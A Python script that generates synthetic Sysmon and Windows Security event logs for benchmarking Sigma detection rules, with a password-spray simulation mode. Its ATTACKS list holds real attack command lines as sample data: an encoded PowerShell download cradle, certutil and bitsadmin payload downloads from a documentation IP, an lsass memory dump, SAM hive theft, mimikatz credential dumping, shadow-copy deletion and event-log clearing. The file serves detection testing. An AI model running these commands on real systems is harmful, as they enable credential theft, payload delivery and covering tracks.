#!/usr/bin/env python3
"""Generates Sysmon and Security events as JSON lines for the Sigma benchmark (issue 5).

usage: sigma_corpus.py N OUT [--samples SIGMA_REGRESSION_DIR] [--seed S]
       sigma_corpus.py --spray N OUT

--spray writes N failed logons (Security 4625) from one address against 5,000 accounts,
20 per second: one correlation group whose window holds every event, for timing
correlations.

Events have the shape EVTX exporters write (Event.System with #attributes,
Event.EventData), one object per line. The mix follows what a Windows fleet with Sysmon
sends: mostly image loads, process creations, network connections, file and registry
writes, DNS queries; Security logons, special privileges, 4688 process creations and
object access. Values come from everyday software (browsers, Office, Teams, updaters,
developer tools, services) with per-event variation (GUIDs, PIDs, user profiles,
temporary names), so rules meet values shaped like the ones they are written against.
About one event in a thousand is an attack: a command line from a list of well-known
techniques, or, with --samples, an event taken from the SigmaHQ regression samples.
"""
import glob
import json
import random
import sys

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_GUID = "5770385F-C22A-43E0-BF4C-06F5698FFBD9"

USERS = ["alice", "bob", "chen", "dmitri", "emi", "farah", "goro", "hana", "ivan", "julia"]
HOSTS = ["WS-%04d" % i for i in range(1, 400)] + ["SRV-FILE01", "SRV-DC01", "SRV-SQL02"]

PROGRAMS = [
    (r"C:\Windows\System32\svchost.exe", "svchost.exe", "Host Process for Windows Services",
     ["-k netsvcs -p -s Schedule", "-k LocalService -p -s EventSystem",
      "-k NetworkService -p -s Dnscache", "-k UnistackSvcGroup", "-k wsappx -p -s AppXSvc"]),
    (r"C:\Windows\explorer.exe", "EXPLORER.EXE", "Windows Explorer", ["", "/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b}"]),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe", "Google Chrome",
     ["--type=renderer --lang=ja --renderer-client-id=%d", "--type=gpu-process --gpu-preferences=%d",
      "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=ja --service-sandbox-type=none",
      "https://intranet.example.co.jp/portal?id=%d"]),
    (r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "msedge.exe", "Microsoft Edge",
     ["--type=renderer --instant-process --field-trial-handle=%d", "--single-argument https://www.example.jp/news/%d"]),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WinWord.exe", "Microsoft Word",
     ['/n "C:\\Users\\{user}\\Documents\\report-%d.docx"', "/automation -Embedding"]),
    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", "Excel.exe", "Microsoft Excel",
     ['"C:\\Users\\{user}\\Documents\\budget-%d.xlsx"']),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook", ["/recycle"]),
    (r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe", "Teams.exe", "Microsoft Teams",
     ["--type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle=%d", "--system-initiated"]),
    (r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive", ["/background"]),
    (r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe", "electron.exe", "Visual Studio Code",
     ["--type=utility --utility-sub-type=node.mojom.NodeService", r'"C:\Users\{user}\src\project-%d"']),
    (r"C:\Program Files\Git\cmd\git.exe", "git.exe", "Git for Windows", ["fetch --all --prune", "status --porcelain", "pull origin main"]),
    (r"C:\Program Files\Python311\python.exe", "python.exe", "Python", [r"C:\Users\{user}\src\tools\report_%d.py --quiet", "-m pip list"]),
    (r"C:\Windows\System32\conhost.exe", "CONHOST.EXE", "Console Window Host", ["0xffffffff -ForceV1"]),
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", ["", "KEYROAMING"]),
    (r"C:\Windows\System32\RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker", ["-Embedding"]),
    (r"C:\Windows\System32\SearchIndexer.exe", "SearchIndexer.exe", "Microsoft Windows Search Indexer", ["/Embedding"]),
    (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24080.9-0\MsMpEng.exe", "MsMpEng.exe", "Antimalware Service Executable", [""]),
    (r"C:\Windows\System32\wbem\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", ["-secured -Embedding", "-Embedding"]),
    (r"C:\Windows\System32\dllhost.exe", "dllhost.exe", "COM Surrogate", ["/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"]),
    (r"C:\Windows\System32\backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host",
     ["-ServerName:BackgroundTaskHost.WebAccountProvider"]),
    (r"C:\Windows\System32\notepad.exe", "NOTEPAD.EXE", "Notepad", [r'"C:\Users\{user}\Desktop\memo-%d.txt"']),
    (r"C:\Windows\System32\cmd.exe", "Cmd.Exe", "Windows Command Processor",
     ['/c "C:\\Users\\{user}\\build.bat"', "/c echo %d > nul", "/d /c npm run build"]),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "Windows PowerShell",
     ["-NoProfile -Command Get-Date", r"-File C:\Scripts\inventory-%d.ps1", "-NoLogo"]),
    (r"C:\Program Files\Zoom\bin\Zoom.exe", "Zoom.exe", "Zoom Meetings", ["--action=join --confno=%d"]),
    (r"C:\Program Files\Java\jre-1.8\bin\java.exe", "java.exe", "Java(TM) Platform SE binary", ["-jar C:\\apps\\erp-client-%d.jar"]),
    (r"C:\Program Files\nodejs\node.exe", "node.exe", "Node.js JavaScript Runtime", ["server.js --port %d"]),
    (r"C:\Windows\System32\msiexec.exe", "msiexec.exe", "Windows Installer", ["/V", "/i C:\\Temp\\agent-%d.msi /qn"]),
    (r"C:\Windows\System32\wuauclt.exe", "wuauclt.exe", "Windows Update", ["/RunHandlerComServer"]),
    (r"C:\Windows\System32\spoolsv.exe", "spoolsv.exe", "Spooler SubSystem App", [""]),
    (r"C:\Windows\System32\lsass.exe", "lsass.exe", "Local Security Authority Process", [""]),
]

ATTACKS = [
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    (r"C:\Windows\System32\certutil.exe", "CertUtil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe"),
    (r"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full"),
    (r"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", "vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Windows\System32\whoami.exe", "whoami.exe", "whoami /priv"),
    (r"C:\Windows\System32\reg.exe", "reg.exe", r"reg save HKLM\SAM C:\Temp\sam.save"),
    (r"C:\Windows\System32\schtasks.exe", "schtasks.exe", r'schtasks /create /sc minute /mo 5 /tn Updater /tr "C:\Users\Public\u.exe"'),
    (r"C:\Users\Public\mimikatz.exe", "mimikatz.exe", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    (r"C:\Windows\System32\bitsadmin.exe", "bitsadmin.exe", "bitsadmin /transfer job /download /priority high http://203.0.113.9/p.exe C:\\Temp\\p.exe"),
    (r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe", "wevtutil cl Security"),
]

# What starts programs on an ordinary desktop, and what talks to the network.
EXPLORER = (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE")
SERVICES = (r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe")
DCOM = (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p")
SHELLS = [(r"C:\Windows\System32\cmd.exe", r'C:\Windows\system32\cmd.exe /c "C:\build.bat"'),
          (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoLogo")]
SERVICE_PROGRAMS = {"svchost.exe", "spoolsv.exe", "lsass.exe", "MsMpEng.exe", "SearchIndexer.exe", "wuauclt.exe",
                    "msiexec.exe"}
COM_PROGRAMS = {"RuntimeBroker.exe", "dllhost.exe", "WmiPrvSE.exe", "backgroundTaskHost.exe", "taskhostw.exe"}
NET_PROGRAMS = {"chrome.exe", "msedge.exe", "Teams.exe", "OneDrive.exe", "svchost.exe", "git.exe",
                "Zoom.exe", "java.exe", "node.exe", "MsMpEng.exe", "wuauclt.exe"}

DLLS = ["ntdll.dll", "kernel32.dll", "KernelBase.dll", "user32.dll", "advapi32.dll", "combase.dll", "ole32.dll",
        "oleaut32.dll", "crypt32.dll", "bcrypt.dll", "ws2_32.dll", "winhttp.dll", "wininet.dll", "dnsapi.dll",
        "shell32.dll", "msvcp_win.dll", "ucrtbase.dll", "rpcrt4.dll", "sechost.dll", "clbcatq.dll", "dwmapi.dll",
        "uxtheme.dll", "propsys.dll", "wintrust.dll", "mswsock.dll", "iphlpapi.dll", "nsi.dll", "profapi.dll"]

DOMAINS = ["www.example.jp", "login.microsoftonline.com", "outlook.office365.com", "teams.microsoft.com",
           "update.googleapis.com", "clients2.google.com", "github.com", "api.github.com", "pypi.org",
           "registry.npmjs.org", "intranet.example.co.jp", "ctldl.windowsupdate.com", "settings-win.data.microsoft.com",
           "zoom.us", "cdn.jsdelivr.net", "fonts.gstatic.com", "ocsp.digicert.com"]

REG_KEYS = [r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Installer\UserData\S-1-5-18\Products\%X\InstallProperties",
            r"HKU\S-1-5-21-%d-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx",
            r"HKU\S-1-5-21-%d-1001\Software\Microsoft\Office\16.0\Common\Roaming\Identities",
            r"HKLM\SYSTEM\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-%d-1001",
            r"HKU\S-1-5-21-%d-1001\Software\Google\Chrome\PreferenceMACs\Default\extensions.settings",
            r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignatureUpdateCount%d"]

FILES = [r"C:\Users\{user}\AppData\Local\Temp\tmp%X.tmp", r"C:\Users\{user}\Downloads\invoice-%d.pdf",
         r"C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_%06x",
         r"C:\Windows\Prefetch\CHROME.EXE-%08X.pf", r"C:\Users\{user}\Documents\report-%d.docx",
         r"C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\DetectionHistory\%d",
         r"C:\Users\{user}\src\project\node_modules\.cache\%x.json"]


class Gen:
    def __init__(self, seed, samples):
        self.r = random.Random(seed)
        self.samples = samples
        self.record = 1000
        self.t = 1_763_700_000.0

    def guid(self):
        r = self.r
        return "%08X-%04X-%04X-%04X-%012X" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(16),
                                              r.getrandbits(16), r.getrandbits(48))

    def fill(self, s, user):
        s = s.replace("{user}", user)
        if "%" in s:
            try:
                s = s % self.r.randint(1, 10**9)
            except (TypeError, ValueError):
                pass
        return s

    def system(self, eid, channel, provider, host, guid=None):
        self.record += 1
        self.t += self.r.random() * 0.002
        ts = self.t
        stamp = "%s.%06dZ" % (_iso(ts), int((ts % 1) * 1e6))
        prov = {"#attributes": {"Name": provider}}
        if guid:
            prov["#attributes"]["Guid"] = guid
        return {"Provider": prov, "EventID": eid, "Version": 5, "Level": 4, "Task": eid, "Opcode": 0,
                "Keywords": "0x8000000000000000", "TimeCreated": {"#attributes": {"SystemTime": stamp}},
                "EventRecordID": self.record, "Correlation": None,
                "Execution": {"#attributes": {"ProcessID": 3000 + self.r.randint(0, 900), "ThreadID": self.r.randint(100, 9000)}},
                "Channel": channel, "Computer": host, "Security": {"#attributes": {"UserID": "S-1-5-18"}}}

    def process(self, user):
        r = self.r
        if r.random() < 0.001:
            image, ofn, cmd = r.choice(ATTACKS)
            return image, ofn, "", cmd
        image, ofn, desc, args = r.choice(PROGRAMS)
        image = self.fill(image, user)
        arg = self.fill(r.choice(args), user)
        cmd = ('"%s" %s' % (image, arg)).rstrip() if " " in image else ("%s %s" % (image, arg)).rstrip()
        return image, ofn, desc, cmd

    def parent(self, image):
        name = image.rsplit("\\", 1)[-1]
        if name in SERVICE_PROGRAMS:
            return SERVICES
        if name in COM_PROGRAMS:
            return DCOM
        if name == "conhost.exe":
            return self.r.choice(SHELLS)
        return EXPLORER

    def net_image(self, user):
        while True:
            image, ofn, _, _ = self.r.choice(PROGRAMS)
            if image.rsplit("\\", 1)[-1] in NET_PROGRAMS:
                return self.fill(image, user)

    def sysmon(self, eid, host, user, data):
        return {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                          "System": self.system(eid, SYSMON, "Microsoft-Windows-Sysmon", host, SYSMON_GUID),
                          "EventData": data}}

    def security(self, eid, host, data):
        return {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                          "System": self.system(eid, "Security", "Microsoft-Windows-Security-Auditing", host,
                                                "54849625-5478-4994-A5BA-3E3B0328C30D"),
                          "EventData": data}}

    def event(self):
        r = self.r
        if self.samples and r.random() < 0.0005:
            return r.choice(self.samples)
        host, user = r.choice(HOSTS), r.choice(USERS)
        duser = "EXAMPLE\\" + user
        pguid, pid = self.guid(), r.randint(500, 60000)
        utc = _iso(self.t).replace("T", " ") + ".%03d" % r.randint(0, 999)
        kind = r.random()
        if kind < 0.24:  # process creation
            image, ofn, desc, cmd = self.process(user)
            pimage, pcmd = self.parent(image)
            return self.sysmon(1, host, user, {
                "RuleName": "-", "UtcTime": utc, "ProcessGuid": pguid, "ProcessId": pid, "Image": image,
                "FileVersion": "10.0.22621.%d" % r.randint(1, 4000), "Description": desc,
                "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
                "OriginalFileName": ofn, "CommandLine": cmd, "CurrentDirectory": "C:\\Users\\%s\\" % user,
                "User": duser, "LogonGuid": self.guid(), "LogonId": "0x%x" % r.getrandbits(24),
                "TerminalSessionId": 1, "IntegrityLevel": r.choice(["Medium", "High", "System"]),
                "Hashes": "SHA256=%064X,IMPHASH=%032X" % (r.getrandbits(256), r.getrandbits(128)),
                "ParentProcessGuid": self.guid(), "ParentProcessId": r.randint(500, 60000),
                "ParentImage": pimage, "ParentCommandLine": pcmd, "ParentUser": duser})
        if kind < 0.44:  # image load
            image, _, _, _ = self.process(user)
            dll = r.choice(DLLS)
            return self.sysmon(7, host, user, {
                "RuleName": "-", "UtcTime": utc, "ProcessGuid": pguid, "ProcessId": pid, "Image": image,
                "ImageLoaded": "C:\\Windows\\System32\\" + dll, "FileVersion": "10.0.22621.1",
                "Description": dll, "Product": "Microsoft® Windows® Operating System",
                "Company": "Microsoft Corporation", "OriginalFileName": dll,
                "Hashes": "SHA256=%064X" % r.getrandbits(256), "Signed": "true",
                "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "User": duser})
        if kind < 0.56:  # network connection
            image = self.net_image(user)
            return self.sysmon(3, host, user, {
                "RuleName": "-", "UtcTime": utc, "ProcessGuid": pguid, "ProcessId": pid, "Image": image,
                "User": duser, "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
                "SourceIp": "10.%d.%d.%d" % (r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)),
                "SourceHostname": host, "SourcePort": r.randint(49152, 65535), "SourcePortName": "-",
                "DestinationIsIpv6": "false",
                "DestinationIp": "%d.%d.%d.%d" % (r.choice([13, 20, 52, 104, 142, 151]), r.randint(0, 255),
                                                  r.randint(0, 255), r.randint(1, 254)),
                "DestinationHostname": r.choice(DOMAINS), "DestinationPort": r.choice([443, 443, 443, 80, 53, 445]),
                "DestinationPortName": "https"})
        if kind < 0.66:  # file create
            image, _, _, _ = self.process(user)
            return self.sysmon(11, host, user, {
                "RuleName": "-", "UtcTime": utc, "ProcessGuid": pguid, "ProcessId": pid, "Image": image,
                "TargetFilename": self.fill(r.choice(FILES), user), "CreationUtcTime": utc, "User": duser})
        if kind < 0.76:  # registry
            image, _, _, _ = self.process(user)
            eid = r.choice([12, 13, 13])
            data = {"RuleName": "-", "EventType": "SetValue" if eid == 13 else "CreateKey", "UtcTime": utc,
                    "ProcessGuid": pguid, "ProcessId": pid, "Image": image,
                    "TargetObject": self.fill(r.choice(REG_KEYS), user), "User": duser}
            if eid == 13:
                data["Details"] = r.choice(["DWORD (0x00000001)", "DWORD (0x00000000)", "Binary Data",
                                            "QWORD (0x%08x-0x%08x)" % (r.getrandbits(32), r.getrandbits(32))])
            return self.sysmon(eid, host, user, data)
        if kind < 0.82:  # DNS
            image, _, _, _ = self.process(user)
            d = r.choice(DOMAINS)
            return self.sysmon(22, host, user, {
                "RuleName": "-", "UtcTime": utc, "ProcessGuid": pguid, "ProcessId": pid, "QueryName": d,
                "QueryStatus": "0", "QueryResults": "::ffff:%d.%d.%d.%d;" % (13, r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)),
                "Image": image, "User": duser})
        if kind < 0.86:  # process access
            image, _, _, _ = self.process(user)
            target, _, _, _ = self.process(user)
            return self.sysmon(10, host, user, {
                "RuleName": "-", "UtcTime": utc, "SourceProcessGUID": pguid, "SourceProcessId": pid,
                "SourceThreadId": r.randint(100, 9000), "SourceImage": image, "TargetProcessGUID": self.guid(),
                "TargetProcessId": r.randint(500, 60000), "TargetImage": target,
                "GrantedAccess": r.choice(["0x1000", "0x1400", "0x101000", "0x2000"]),
                "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e",
                "SourceUser": duser, "TargetUser": duser})
        if kind < 0.89:  # process terminated
            image, _, _, _ = self.process(user)
            return self.sysmon(5, host, user, {"RuleName": "-", "UtcTime": utc, "ProcessGuid": pguid,
                                               "ProcessId": pid, "Image": image, "User": duser})
        # Security auditing
        sec = r.random()
        if sec < 0.35:
            return self.security(4624, host, {
                "SubjectUserSid": "S-1-5-18", "SubjectUserName": host + "$", "SubjectDomainName": "EXAMPLE",
                "SubjectLogonId": "0x3e7", "TargetUserSid": "S-1-5-21-%d-1001" % r.getrandbits(30),
                "TargetUserName": user, "TargetDomainName": "EXAMPLE", "TargetLogonId": "0x%x" % r.getrandbits(24),
                "LogonType": r.choice([2, 3, 3, 5, 7, 10, 11]), "LogonProcessName": "User32",
                "AuthenticationPackageName": r.choice(["Negotiate", "Kerberos", "NTLM"]),
                "WorkstationName": host, "LogonGuid": "{%s}" % self.guid(), "TransmittedServices": "-",
                "LmPackageName": "-", "KeyLength": 0, "ProcessId": "0x%x" % pid,
                "ProcessName": r"C:\Windows\System32\svchost.exe",
                "IpAddress": "10.%d.%d.%d" % (r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)),
                "IpPort": str(r.randint(49152, 65535)), "ImpersonationLevel": "%%1833",
                "ElevatedToken": "%%1843"})
        if sec < 0.45:
            return self.security(4625, host, {
                "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "TargetUserName": r.choice(USERS + ["admin", "administrator"]),
                "TargetDomainName": "EXAMPLE", "Status": "0xc000006d", "FailureReason": "%%2313",
                "SubStatus": r.choice(["0xc000006a", "0xc0000064"]), "LogonType": r.choice([3, 10]),
                "LogonProcessName": "NtLmSsp", "AuthenticationPackageName": "NTLM", "WorkstationName": host,
                "IpAddress": "10.%d.%d.%d" % (r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)), "IpPort": "0"})
        if sec < 0.60:
            return self.security(4672, host, {
                "SubjectUserSid": "S-1-5-18", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
                "SubjectLogonId": "0x3e7", "PrivilegeList": "SeAssignPrimaryTokenPrivilege\n\t\t\tSeTcbPrivilege\n\t\t\tSeSecurityPrivilege"})
        if sec < 0.85:
            image, _, _, cmd = self.process(user)
            pimage = self.parent(image)[0]
            return self.security(4688, host, {
                "SubjectUserSid": "S-1-5-21-%d-1001" % r.getrandbits(30), "SubjectUserName": user,
                "SubjectDomainName": "EXAMPLE", "SubjectLogonId": "0x%x" % r.getrandbits(24),
                "NewProcessId": "0x%x" % pid, "NewProcessName": image, "TokenElevationType": "%%1938",
                "ProcessId": "0x%x" % r.randint(500, 60000), "CommandLine": cmd, "TargetUserSid": "S-1-0-0",
                "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
                "ParentProcessName": pimage, "MandatoryLabel": "S-1-16-8192"})
        image, _, _, _ = self.process(user)
        return self.security(4663, host, {
            "SubjectUserSid": "S-1-5-21-%d-1001" % r.getrandbits(30), "SubjectUserName": user,
            "SubjectDomainName": "EXAMPLE", "SubjectLogonId": "0x%x" % r.getrandbits(24),
            "ObjectServer": "Security", "ObjectType": "File", "ObjectName": self.fill(r.choice(FILES), user),
            "HandleId": "0x%x" % r.getrandbits(16), "AccessList": "%%4416", "AccessMask": "0x1",
            "ProcessId": "0x%x" % pid, "ProcessName": image, "ResourceAttributes": "S:AI"})


def _iso(ts):
    import time
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ts))


def load_samples(root):
    out = []
    dec = json.JSONDecoder()
    for path in sorted(glob.glob(root + "/**/*.json", recursive=True)):
        with open(path, encoding="utf-8") as f:
            text = f.read()
        pos = 0
        while True:
            while pos < len(text) and text[pos].isspace():
                pos += 1
            if pos >= len(text):
                break
            try:
                obj, pos = dec.raw_decode(text, pos)
            except ValueError:
                break
            if isinstance(obj, dict) and "Event" in obj:
                out.append(obj)
    return out


def spray(n, out):
    with open(out, "w", encoding="utf-8") as f:
        for i in range(n):
            t = 1_763_700_000 + i // 20
            stamp = "%s.%03dZ" % (_iso(t), (i % 20) * 50)
            ev = {"Event": {"System": {"EventID": 4625, "Channel": "Security",
                                       "TimeCreated": {"#attributes": {"SystemTime": stamp}}},
                            "EventData": {"TargetUserName": "user%d" % (i % 5000),
                                          "IpAddress": "203.0.113.9", "LogonType": 3}}}
            f.write(json.dumps(ev, separators=(",", ":")))
            f.write("\n")
    return 0


def main():
    args = sys.argv[1:]
    if len(args) == 3 and args[0] == "--spray":
        return spray(int(args[1]), args[2])
    if len(args) < 2:
        print(__doc__)
        return 2
    n, out = int(args[0]), args[1]
    seed = int(args[args.index("--seed") + 1]) if "--seed" in args else 5
    samples = load_samples(args[args.index("--samples") + 1]) if "--samples" in args else []
    g = Gen(seed, samples)
    with open(out, "w", encoding="utf-8") as f:
        for _ in range(n):
            f.write(json.dumps(g.event(), ensure_ascii=False, separators=(",", ":")))
            f.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
